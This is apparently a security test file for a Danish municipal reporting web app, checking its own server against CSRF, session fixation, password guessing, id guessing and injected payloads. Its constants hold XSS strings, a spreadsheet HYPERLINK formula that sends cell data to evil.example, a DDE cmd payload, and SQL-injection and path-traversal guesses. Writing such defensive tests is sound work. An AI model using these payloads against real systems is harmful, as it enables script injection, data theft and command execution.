import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DialectName } from '../../engine/db/index.ts';
import type { Registry } from '../../engine/index.ts';
import { createUser, verifyAuditChain } from '../../engine/workflows/index.ts';
import { launchChromium } from '../../reports/index.ts';
import { createApp } from '../../server/index.ts';
import {
  createTestClock,
  DIALECTS,
  openTestDatabase,
  PASSWORD,
  PERSONAS,
  seedTestData,
  startTestServer,
  testRegistry,
  validMaaltal,
  type TestClient,
  type TestDatabase,
  type TestServer,
} from '../helpers/index.ts';
import { parseDanishCsv } from '../reports/parse-danish-csv.ts';
import { dbSnapshot } from './db-snapshot.ts';
import { servedRoutes } from './served-routes.ts';

/*
 * Attack: script and spreadsheet-formula payloads written by a respondent, through every output
 * that shows them (the respondent's pages, the staff previews, the published memo, table,
 * municipality pages and downloads); session fixation; CSRF on every state-changing route;
 * password guessing; and a respondent guessing other organisations' ids.
 */

/** Each would set window.__xss (or call alert) if it reached a page as markup or script. */
const XSS = [
  '<script>window.__xss=1</script>',
  '"><img src=x onerror="window.__xss=2">',
  "'><svg onload=window.__xss=3>",
  '</script><script>window.__xss=4</script>',
  '<a href="javascript:window.__xss=5" id="xss5">klik</a>',
  '<iframe srcdoc="<script>parent.__xss=6</script>"></iframe>',
  '{{constructor.constructor "window.__xss=7"}} <style>*{display:none}</style>',
];
/** Each is a formula (or hides one) when a spreadsheet opens the cell. */
const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Klik")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\uFF1D1+1'];
const PAYLOADS = [...XSS, ...FORMULAS];
/** What would show that markup from a payload was parsed rather than shown as text. */
const LIVE_MARKUP = [/<script>window\.__xss/i, /<img src=x onerror/i, /<svg onload/i, /<iframe srcdoc/i, /href="javascript:/i, /<style>\*\{display/i];
const FORMULA_START = /^(?:[\t\r]|\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/;
const OWN = '/api/rounds/2024/forms/maaltal/submission';
const ZERO_ID = '00000000-0000-4000-8000-000000000000';
/** A value for each path parameter, so a request reaches the route's own checks. */
const PARAMS: Readonly<Record<string, string>> = {
  roundId: '2024',
  formName: 'maaltal',
  submissionId: ZERO_ID,
  kommunekode: '0147',
  importId: ZERO_ID,
  token: 'x'.repeat(43),
  fileName: 'maaltal.schema.json',
};

/** A report of a split municipality with one unit per payload, the payload in every free text. */
function payloadReport(kommunekode: string): Record<string, unknown> {
  const base = validMaaltal(kommunekode) as { enheder: Array<Record<string, unknown>>; kontakt: Record<string, unknown> };
  const unit = base.enheder[0]!;
  return {
    ...base,
    enheder: PAYLOADS.map((p, i) => ({
      ...unit,
      navn: `${p} (enhed ${i + 1})`,
      tidligereMaal: { status: 'ikkeOpfyldt', begrundelse: p },
      politik: { findes: true, indhold: p, handlinger: `${p} – handling` },
    })),
    // The contact's name reaches the ministry's board, its pages and its CSV and XLSX exports.
    kontakt: { navn: `${FORMULAS[0]} ${XSS[1]}`, email: 'kontakt@kk.dk' },
  };
}

/** Downloads a workbook and checks that no cell is a formula or text a spreadsheet would read as one. */
async function expectInertXlsx(url: string, client: TestClient, minTexts: number): Promise<void> {
  const res = await fetch(url, { headers: { cookie: [...client.cookies].map(([k, v]) => `${k}=${v}`).join('; ') } });
  expect(res.status, url).toBe(200);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load((await res.arrayBuffer()) as ArrayBuffer);
  let neutralised = 0;
  wb.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type, url).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') {
          expect(cell.value, url).not.toMatch(FORMULA_START);
          if (cell.value.startsWith("'")) neutralised++;
        }
      }),
    ),
  );
  // The payloads were in the workbook, kept as text behind an apostrophe.
  expect(neutralised, url).toBeGreaterThanOrEqual(minTexts);
}

function noLiveMarkup(where: string, html: string): void {
  for (const re of LIVE_MARKUP) expect(html, `${where} carries ${re}`).not.toMatch(re);
}

for (const dialect of DIALECTS) {
  describe(`attacks [${dialect}]`, () => {
    // Just before the round closes, so reports can still be submitted, and it can close within the suite.
    const clock = createTestClock('2024-05-31T19:00:00Z');
    let registry: Registry;
    let t: TestDatabase;
    let server: TestServer;
    let ids: Record<keyof typeof PERSONAS, string>;
    let a: TestClient;
    let b: TestClient;
    let admin: TestClient;
    let kk: TestClient;
    let dataDir: string | undefined;

    const loggedIn = async (email: string): Promise<TestClient> => {
      const c = server.client();
      const r = await c.login(email, PASSWORD);
      expect(r.status, r.text).toBe(200);
      return c;
    };

    beforeAll(async () => {
      registry = await testRegistry();
      t = await openTestDatabase(dialect as DialectName);
      ids = await seedTestData({ db: t.db, registry, clock: clock.now });
      const u = await createUser({ db: t.db, clock: clock.now }, { email: 'r@kk.dk', navn: 'KK', role: 'respondent', code: '0101', password: PASSWORD, actorId: null });
      if (!u.ok) throw new Error(u.code);
      // Addresses are read from X-Forwarded-For (as behind the ministry's proxy), so each guesser below has its own.
      // Publications are files under the data folder: a folder of this suite's own.
      dataDir = await mkdtemp(path.join(tmpdir(), 'indberet-attack-'));
      // Pauses long enough that a loaded machine answers within them, short enough to wait one out.
      server = await startTestServer({ db: t.db, registry, clock: clock.now, config: { trustProxy: 'loopback', dataDir, throttle: { firstDelaySeconds: 5, maxDelaySeconds: 10 } } });
      a = await loggedIn(PERSONAS.respondentA.email);
      b = await loggedIn(PERSONAS.respondentB.email);
      admin = await loggedIn(PERSONAS.admin.email);
      kk = await loggedIn('r@kk.dk');
    });
    afterAll(async () => {
      await server?.close();
      await t?.destroy();
      if (dataDir) await rm(dataDir, { recursive: true, force: true });
    });

    it('refuses every state-changing route without the CSRF token, or with another session\'s, and changes nothing', async () => {
      // Every state-changing route the app serves (API and pages), from express's route table.
      const routes = servedRoutes(createApp(server.deps)).filter((r) => r.method !== 'GET' && r.method !== 'HEAD');
      expect(routes.length).toBeGreaterThanOrEqual(20);
      const anon = server.client();
      await anon.fetchCsrf();
      for (const route of routes) {
        const path = route.path.replace(/\{(\w+)\}/g, (_, n: string) => PARAMS[n] ?? 'x');
        const who = /login$|^\/adgang\//.test(route.path) ? anon : /^\/(api\/)?admin|^\/rapporter/.test(route.path) ? admin : a;
        const other = who === admin ? a : admin;
        const body = { answers: validMaaltal('0147'), email: PERSONAS.respondentA.email, password: 'forkert kodeord', until: '2024-06-30', navn: 'X', role: 'analyst', current: 'forkert', next: 'et nyt langt kodeord' };
        for (const [label, headers] of [
          ['no token', {}],
          ["another session's token", { 'x-csrf-token': other.csrf! }],
          ['a forged token', { 'x-csrf-token': 'A'.repeat(43) }],
        ] as const) {
          const before = await dbSnapshot(t.db);
          // A cross-site form post: the browser sends the cookies, the attacker cannot send the token.
          for (const r of [
            await who.request(route.method, path, { json: body, headers: { 'if-match': '"0"', ...headers }, noCsrf: true }),
            await who.request(route.method, path, {
              raw: new URLSearchParams({ email: 'x@y.dk', password: 'x', answers: '{}' }).toString(),
              headers: { 'content-type': 'application/x-www-form-urlencoded', 'if-match': '"0"', ...headers },
              noCsrf: true,
            }),
          ]) {
            expect(r.status, `${route.method} ${route.path} with ${label}`).toBe(403);
            expect(r.body.code).toBe('CSRF_INVALID');
          }
          expect(await dbSnapshot(t.db), `${route.method} ${route.path} with ${label}`).toEqual(before);
        }
      }
      console.log(`attack [${dialect}]: ${routes.length} state-changing routes refused without, with a forged and with another session's CSRF token (JSON and form posts)`);
      // With its own token the same client gets through the CSRF check (the refusal above was the token's).
      const ok = await a.request('PUT', OWN, { json: { answers: validMaaltal('0147') }, headers: { 'if-match': '"0"' } });
      expect(ok.status).toBe(200);
    });

    it('does not let a session id planted before login survive it (session fixation)', async () => {
      const planted = 'angriberens-kendte-sessions-id-0123456789abcdef';
      const plantedCsrf = 'angriberens-kendte-csrf-token-0123456789abcdef';
      for (const via of ['api', 'page'] as const) {
        const victim = server.client();
        victim.cookies.set('indberet_sid', planted);
        victim.cookies.set('indberet_csrf', plantedCsrf);
        const token = await victim.fetchCsrf();
        // The anonymous CSRF cookie is the attacker's only if long enough to be accepted; either way, login replaces it.
        const r =
          via === 'api'
            ? await victim.request('POST', '/api/auth/login', { json: { email: PERSONAS.analyst.email, password: PASSWORD }, headers: { 'x-csrf-token': token } })
            : await victim.request('POST', '/login', {
                raw: new URLSearchParams({ email: PERSONAS.analyst.email, password: PASSWORD, _csrf: token }).toString(),
                headers: { 'content-type': 'application/x-www-form-urlencoded' },
                noCsrf: true,
              });
        expect(r.status, via).toBe(via === 'api' ? 200 : 303);
        const sid = victim.cookies.get('indberet_sid')!;
        expect(sid).toBeDefined();
        expect(sid).not.toBe(planted);
        expect(victim.cookies.has('indberet_csrf')).toBe(false);
        // The victim is logged in with the new id; the attacker's planted id and token give nothing.
        expect((await victim.request('GET', '/api/auth/me')).body.user.email).toBe(PERSONAS.analyst.email);
        const attacker = server.client();
        attacker.cookies.set('indberet_sid', planted);
        expect((await attacker.request('GET', '/api/auth/me')).status).toBe(401);
        const me = await victim.request('GET', '/api/auth/me');
        expect(me.body.csrfToken).not.toBe(plantedCsrf);
        expect(me.body.csrfToken).not.toBe(token);
        const stale = await victim.request('POST', '/api/auth/logout', { headers: { 'x-csrf-token': plantedCsrf }, noCsrf: true });
        expect(stale.status).toBe(403);
        // A session id once seen (and logged out) never works again.
        victim.csrf = me.body.csrfToken as string;
        expect((await victim.request('POST', '/api/auth/logout')).status).toBe(204);
        const replay = server.client();
        replay.cookies.set('indberet_sid', sid);
        expect((await replay.request('GET', '/api/auth/me')).status).toBe(401);
      }
    });

    it('throttles a password guesser per account and per address, on the API and the login page alike', async () => {
      const guesser = server.client();
      const token = await guesser.fetchCsrf();
      const api = (email: string, password: string, ip: string) =>
        guesser.request('POST', '/api/auth/login', { json: { email, password }, headers: { 'x-forwarded-for': ip, 'x-csrf-token': token } });
      const form = (email: string, password: string, ip: string) =>
        guesser.request('POST', '/login', {
          raw: new URLSearchParams({ email, password, _csrf: token }).toString(),
          headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-forwarded-for': ip },
          noCsrf: true,
        });
      // Five wrong guesses at one account, spread over both doors and several addresses.
      const target = PERSONAS.respondentB.email;
      const answers = [];
      for (let i = 0; i < 5; i++) answers.push(await (i % 2 ? form : api)(target, `gæt nummer ${i} langt nok`, `198.51.100.${i + 1}`));
      expect(answers.map((r) => r.status)).toEqual([401, 401, 401, 401, 401]);
      // An unknown account is answered exactly like a wrong password: the guesser learns nothing.
      const unknown = await api('findes.ikke@example.dk', 'gæt nummer 0 langt nok', '198.51.100.50');
      expect(unknown.status).toBe(401);
      expect(unknown.body).toEqual(answers[0]!.body);
      // The account now pauses: even the right password is refused, through either door, from a fresh address.
      const locked = await api(target, PASSWORD, '198.51.100.9');
      expect(locked.status).toBe(429);
      expect(locked.body.code).toBe('TOO_MANY_ATTEMPTS');
      expect(Number(locked.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
      const lockedPage = await form(target, PASSWORD, '198.51.100.10');
      expect(lockedPage.status).toBe(429);
      expect(lockedPage.headers.get('retry-after')).toMatch(/^\d+$/);
      expect(lockedPage.text).toContain('For mange mislykkede forsøg');
      expect(lockedPage.headers.getSetCookie().some((c) => c.startsWith('indberet_sid='))).toBe(false);
      // Twenty guesses sent at once are counted one by one: at most one is checked, the rest refused.
      const burst = await Promise.all(Array.from({ length: 20 }, (_, i) => api(target, `samtidigt gæt ${i} langt nok`, `198.51.100.${60 + i}`)));
      expect(burst.filter((r) => r.status === 401).length).toBeLessThanOrEqual(1);
      expect(burst.filter((r) => r.status === 429).length).toBeGreaterThanOrEqual(19);
      // A pause, not a lockout: the real user waits it out and gets in, from their own address.
      const pausedOwn = await api(target, PASSWORD, '198.51.100.11');
      const wait = pausedOwn.status === 429 ? Number(pausedOwn.headers.get('retry-after')) : 0;
      expect(wait).toBeLessThanOrEqual(10);
      if (wait) await new Promise((r) => setTimeout(r, wait * 1000 + 50));
      expect((await api(target, PASSWORD, '198.51.100.11')).status).toBe(200);
      // (The guesser's client now holds the user's session; the office is another browser.)
      const officeClient = server.client();
      const officeToken = await officeClient.fetchCsrf();
      const officeApi = (email: string, password: string) =>
        officeClient.request('POST', '/api/auth/login', { json: { email, password }, headers: { 'x-forwarded-for': '203.0.113.7', 'x-csrf-token': officeToken } });
      // One address guessing many accounts is not stopped at a level an office behind one address
      // reaches: thirty failures (six people each mistyping five times) all get their honest 401.
      const office = await Promise.all(Array.from({ length: 30 }, (_, i) => officeApi(`kollega${i % 6}@example.dk`, `tastefejl ${i} langt nok`)));
      expect(office.map((r) => r.status)).toEqual(Array.from({ length: 30 }, () => 401));
      expect((await officeApi(PERSONAS.analyst.email, PASSWORD)).status).toBe(200);
      // Waiting out real pauses takes up to 15 s; a loaded machine needs room beyond that.
    }, 120_000);

    it('gives a respondent guessing other organisations\' ids nothing', async () => {
      const mine = await a.request('GET', OWN);
      const put = await b.request('PUT', OWN, { json: { answers: validMaaltal('0151', 'Ballerups hemmelige ledelse') }, headers: { 'if-match': '"0"' } });
      expect(put.status).toBe(200);
      const theirs = put.body.submission as { id: string };
      const sub = await b.request('POST', `${OWN}/submit`, { headers: { 'if-match': '"1"' } });
      expect(sub.status).toBe(200);
      const bBefore = await t.db.selectFrom('submissions').selectAll().where('id', '=', theirs.id).executeTakeFirstOrThrow();

      // By id: the same answer as for an id that does not exist, so ids reveal nothing.
      const other = await a.request('GET', `/api/submissions/${theirs.id}`);
      const none = await a.request('GET', '/api/submissions/00000000-0000-4000-8000-000000000000');
      expect(other.status).toBe(404);
      expect(other.body).toEqual(none.body);
      expect(other.text).not.toContain('Ballerup');
      for (const guess of ['1', '2', "' or 1=1 --", theirs.id.toUpperCase(), `${theirs.id}%00`, encodeURIComponent(`../${theirs.id}`), '*']) {
        const r = await a.request('GET', `/api/submissions/${guess}`);
        expect([400, 404]).toContain(r.status);
        expect(r.text).not.toContain('Ballerup');
      }
      // The lists and the ministry's actions are not a respondent's.
      for (const [method, path] of [
        ['GET', '/api/rounds/2024/forms/maaltal/submitted'],
        ['GET', '/api/admin/rounds/2024/forms/maaltal/submissions'],
        ['POST', `/api/admin/submissions/${theirs.id}/reopen`],
        ['PUT', '/api/admin/rounds/2024/forms/maaltal/extensions/0151'],
        ['GET', '/api/admin/audit/verify'],
        ['GET', '/rapporter/2024'],
        ['GET', '/rapporter/2024/tabel'],
        ['GET', '/rapporter/2024/notat'],
      ] as const) {
        const r = await a.request(method, path, method === 'GET' ? {} : { json: { until: '2099-12-31' } });
        expect(r.status, `${method} ${path}`).toBe(403);
        expect(r.text).not.toContain('Ballerup');
      }
      // Writing in another municipality's name is refused and stores nothing; leaving the key out
      // files the report under one's own.
      const forged = await a.request('PUT', OWN, { json: { answers: { ...validMaaltal('0151', 'Forfalsket'), kommunekode: '0151' } }, headers: { 'if-match': `"${mine.body.submission.version}"` } });
      expect(forged.status).toBe(403);
      expect(forged.body.code).toBe('RESPONDENT_MISMATCH');
      expect((await a.request('GET', OWN)).body).toEqual(mine.body);
      const unnamed = await a.request('PUT', OWN, { json: { answers: validMaaltal('', 'Forfalsket') }, headers: { 'if-match': `"${mine.body.submission.version}"` } });
      expect(unnamed.status).toBe(200);
      expect(unnamed.body.submission.answers.kommunekode).toBe('0147');
      expect(unnamed.body.submission.id).not.toBe(theirs.id);
      expect(await t.db.selectFrom('submissions').selectAll().where('id', '=', theirs.id).executeTakeFirstOrThrow()).toEqual(bBefore);
      // The pages show one's own report only.
      const home = await a.request('GET', '/');
      expect(home.status).toBe(200);
      expect(home.text).not.toContain('Ballerup');
      const review = await a.request('GET', '/indberetning/2024/maaltal/gennemse');
      expect(review.text).toContain('Forfalsket');
      expect(review.text).not.toContain('Ballerups hemmelige');
      // Nothing is public before the ministry publishes.
      expect((await server.client().request('GET', '/offentlig/2024')).status).toBe(404);
    });

    describe('script and formula payloads through every output', () => {
      let browser: Browser;
      beforeAll(async () => {
        browser = await launchChromium();
      });
      afterAll(async () => {
        await browser?.close();
      });

      /** Opens a page in Chromium with the CSP switched off, so only escaping stands between a payload and execution. */
      let pagesChecked = 0;
      async function inert(client: TestClient, path: string, mustShow: string[]): Promise<void> {
        pagesChecked++;
        const context = await browser.newContext({ bypassCSP: true, javaScriptEnabled: true });
        try {
          await context.addCookies([...client.cookies].map(([name, value]) => ({ name, value, url: server.url })));
          const page = await context.newPage();
          const dialogs: string[] = [];
          page.on('dialog', (d) => {
            dialogs.push(d.message());
            void d.dismiss();
          });
          // Only this loopback server may be reached; anything else (an injected image or link) is cut off.
          await page.route('**/*', (route) => (route.request().url().startsWith(server.url) ? route.continue() : route.abort()));
          const res = await page.goto(server.url + path, { waitUntil: 'load' });
          expect(res?.status(), path).toBe(200);
          const state = await page.evaluate(() => ({
            xss: (window as unknown as { __xss?: unknown }).__xss ?? null,
            link: document.querySelector('#xss5') !== null,
            iframes: document.querySelectorAll('iframe').length,
            text: document.body.innerText + [...document.querySelectorAll('input, textarea')].map((e) => (e as HTMLInputElement).value).join('\n'),
          }));
          expect(state.xss, path).toBeNull();
          expect(state.link, path).toBe(false);
          expect(state.iframes, path).toBe(0);
          expect(dialogs, path).toEqual([]);
          // The payloads were there, shown as text: the check was not vacuous.
          for (const m of mustShow) expect(state.text, `${path} shows ${m}`).toContain(m);
        } finally {
          await context.close();
        }
      }

      it('keeps them inert on the respondent\'s pages, the staff previews, the published pages and the downloads', async () => {
        const report = payloadReport('0101');
        const saved = await kk.request('PUT', OWN, { json: { answers: report }, headers: { 'if-match': '"0"' } });
        expect(saved.status, saved.text).toBe(200);
        expect(saved.body.issues).toEqual([]);
        const a1 = await a.request('GET', OWN);
        const aSaved = await a.request('PUT', OWN, {
          json: { answers: { ...validMaaltal('0147', XSS[0]), kontakt: { navn: XSS[3], email: 'a@frederiksberg.dk' } } },
          headers: { 'if-match': `"${a1.body.submission.version}"` },
        });
        expect(aSaved.status).toBe(200);
        const shown = ['window.__xss=1', 'window.__xss=2'];

        // The respondent's pages before submitting: every step and the review.
        const steps: string[] = [];
        for (let i = 1; i <= 12; i++) {
          const r = await kk.request('GET', `/indberetning/2024/maaltal/trin/${i}`);
          if (r.status !== 200) break;
          noLiveMarkup(`step ${i}`, r.text);
          steps.push(`/indberetning/2024/maaltal/trin/${i}`);
        }
        expect(steps.length).toBeGreaterThanOrEqual(2);
        for (const s of steps) await inert(kk, s, []);
        const review = await kk.request('GET', '/indberetning/2024/maaltal/gennemse');
        noLiveMarkup('review', review.text);
        await inert(kk, '/indberetning/2024/maaltal/gennemse', shown);
        // The unit names reach the form's inputs, as values.
        const allSteps = await Promise.all(steps.map((s) => kk.request('GET', s)));
        expect(allSteps.some((r) => r.text.includes('enhed 1'))).toBe(true);

        // Submitted: the receipt and the home page.
        for (const [c, v] of [[kk, saved.body.submission.version], [a, aSaved.body.submission.version]] as const) {
          const s = await c.request('POST', `${OWN}/submit`, { headers: { 'if-match': `"${v}"` } });
          expect(s.status, s.text).toBe(200);
        }
        for (const p of ['/indberetning/2024/maaltal/kvittering', '/']) {
          noLiveMarkup(p, (await kk.request('GET', p)).text);
        }
        await inert(kk, '/indberetning/2024/maaltal/kvittering', shown);
        await inert(kk, '/', []);
        await inert(a, '/indberetning/2024/maaltal/kvittering', ['window.__xss=1', 'window.__xss=4']);

        // The staff previews.
        const analyst = await loggedIn(PERSONAS.analyst.email);
        for (const p of ['/rapporter/2024/notat', '/rapporter/2024/tabel', `/rapporter/2024/tabel?region=${encodeURIComponent(XSS[1]!)}&sorter=${encodeURIComponent(XSS[0]!)}`]) {
          const r = await analyst.request('GET', p);
          expect(r.status, p).toBe(200);
          noLiveMarkup(p, r.text);
        }
        await inert(analyst, '/rapporter/2024/tabel', shown);
        await inert(analyst, '/rapporter/2024/notat', []);

        // The ministry's board, a municipality's page and the board's exports.
        for (const p of ['/admin/runde/2024', '/admin/runde/2024/respondent/0101', '/admin/runde/2024/respondent/0147', '/admin/runde/2024/kontakter']) {
          const r = await admin.request('GET', p);
          expect(r.status, p).toBe(200);
          noLiveMarkup(p, r.text);
        }
        await inert(admin, '/admin/runde/2024', ['window.__xss=2']);
        await inert(admin, '/admin/runde/2024/respondent/0101', ['window.__xss=2']);
        await inert(admin, '/admin/runde/2024/respondent/0147', ['window.__xss=4']);
        const boardCsv = await fetch(`${server.url}/admin/runde/2024/oversigt.csv`, { headers: { cookie: [...admin.cookies].map(([k, v]) => `${k}=${v}`).join('; ') } });
        expect(boardCsv.status).toBe(200);
        const boardRows = parseDanishCsv(new TextDecoder('utf-8', { ignoreBOM: true }).decode(await boardCsv.arrayBuffer()));
        for (const r of boardRows) for (const cell of r) expect(cell).not.toMatch(FORMULA_START);
        expect(boardRows.some((r) => r.includes(`'${FORMULAS[0]} ${XSS[1]}`))).toBe(true);
        await expectInertXlsx(`${server.url}/admin/runde/2024/oversigt.xlsx`, admin, 1);

        // The round closes; the ministry publishes; the public reads.
        clock.set('2024-05-31T22:30:00Z');
        const minister = await loggedIn(PERSONAS.admin.email);
        const published = await minister.request('POST', '/rapporter/2024/offentliggoer', { headers: { accept: 'application/json' } });
        expect(published.status, published.text).toBe(201);
        const reader = server.client();
        for (const p of ['/offentlig/2024', '/offentlig/2024/notat', '/offentlig/2024/tabel', '/offentlig/2024/kommune/0101', '/offentlig/2024/kommune/0147', `/offentlig/2024/tabel?status=${encodeURIComponent(XSS[2]!)}`]) {
          const r = await reader.request('GET', p);
          expect(r.status, p).toBe(200);
          noLiveMarkup(p, r.text);
        }
        await inert(reader, '/offentlig/2024/tabel', shown);
        await inert(reader, '/offentlig/2024/kommune/0101', shown);
        await inert(reader, '/offentlig/2024/kommune/0147', ['window.__xss=1']);
        await inert(reader, '/offentlig/2024/notat', []);

        // CSV: no cell a spreadsheet would run, the payloads kept as text behind an apostrophe.
        // Read as bytes: fetch's text() would drop the BOM that tells Excel the file is UTF-8.
        const download = async (p: string) => {
          const r = await fetch(server.url + p);
          expect(r.status, p).toBe(200);
          expect(r.headers.get('content-type'), p).toMatch(/^text\/csv/);
          return new TextDecoder('utf-8', { ignoreBOM: true }).decode(await r.arrayBuffer());
        };
        const rows = parseDanishCsv(await download('/offentlig/2024/tabel.csv'));
        for (const r of rows) for (const cell of r) expect(cell).not.toMatch(FORMULA_START);
        const header = rows[0]!;
        // København reports one unit per payload, then its total row, which has no policy text of its own.
        const kind = header.indexOf('Række');
        const kkRows = rows.filter((r) => r[0] === '0101' && r[kind] !== 'Kommunen i alt');
        expect(kkRows).toHaveLength(PAYLOADS.length);
        const policy = header.indexOf('Politikkens indhold');
        expect(policy).toBeGreaterThan(0);
        expect(kkRows.map((r) => r[policy])).toEqual(PAYLOADS.map((p) => (FORMULA_START.test(p) ? `'${p}` : p)));
        for (const r of parseDanishCsv(await download('/offentlig/2024/tabel-dataordbog.csv'))) for (const cell of r) expect(cell).not.toMatch(FORMULA_START);

        // XLSX: no formula cells, no text a spreadsheet would read as one.
        await expectInertXlsx(`${server.url}/offentlig/2024/tabel.xlsx`, reader, PAYLOADS.length);

        // JSON is data, served as JSON, with the exact text (no spreadsheet reads it).
        const json = await reader.request('GET', '/offentlig/2024/tabel.json');
        expect(json.headers.get('content-type')).toMatch(/^application\/json/);
        expect(json.text).toContain(JSON.stringify(PAYLOADS[0]).slice(1, -1));
        expect(json.headers.get('x-content-type-options')).toBe('nosniff');

        // Everything above left the audit chain whole.
        expect((await verifyAuditChain(t.db)).ok).toBe(true);
        console.log(`attack [${dialect}]: ${PAYLOADS.length} payloads inert on ${pagesChecked} pages in Chromium (CSP off) and in 5 CSV/XLSX downloads`);
        expect(ids.admin).toBeDefined();
      });
    });
  });
}
